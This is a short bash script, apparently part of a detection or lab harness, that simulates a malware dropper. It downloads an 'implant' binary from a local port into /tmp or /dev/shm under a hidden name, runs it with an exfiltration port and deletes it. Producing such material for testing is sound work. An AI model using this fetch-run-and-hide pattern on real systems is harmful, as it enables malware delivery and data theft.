#!/bin/bash
# A binary fetched from the attacker's server into a temporary folder and run from there.
dir=/tmp
[ $((REP % 2)) -eq 1 ] && dir=/dev/shm
f=$dir/.cache-$REP-$$
curl -s -o "$f" "http://127.0.0.1:$DROP_PORT/implant" && chmod +x "$f" && "$f" 127.0.0.1 "$EXFIL_PORT"
rm -f "$f"
